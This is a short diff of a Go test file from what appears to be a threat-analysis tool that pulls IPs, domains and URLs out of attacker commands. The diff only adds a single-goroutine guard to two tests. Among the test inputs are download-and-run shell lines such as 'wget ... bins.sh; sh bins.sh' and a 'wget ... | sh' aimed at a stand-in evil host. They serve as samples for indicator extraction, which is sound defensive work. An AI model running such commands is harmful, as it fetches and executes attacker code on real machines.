@@ -9,6 +9,7 @@ import (
 	"unicode/utf16"
 
 	"dossier/correlate/event"
+	"dossier/testbed/race"
 )
 
 // shown returns the things that an event names, as "kind value", sorted, and what
@@ -46,6 +47,7 @@ const (
 
 // What commands name is taken out of every form that they come in.
 func TestThingsOfCommands(t *testing.T) {
+	race.OneGoroutine(t)
 	for line, want := range map[string]string{
 		"cd /tmp; wget http://203.0.113.9/bins.sh; sh bins.sh":                                                                         "ip 203.0.113.9, url http://203.0.113.9/bins.sh",
 		"wget -q -O- HTTP://Evil.Example:8080/A/b?c=d&e=f|sh":                                                                          "domain evil.example, url http://evil.example:8080/A/b?c=d&e=f",
@@ -82,6 +84,7 @@ func TestThingsOfCommands(t *testing.T) {
 
 // So is what other channels name: requests, databases, containers, notes.
 func TestThingsOfOtherChannels(t *testing.T) {
+	race.OneGoroutine(t)
 	said := func(part, name, text string) event.Evidence {
 		return event.Evidence{Kind: event.Said, A: text, B: part, C: name}
 	}
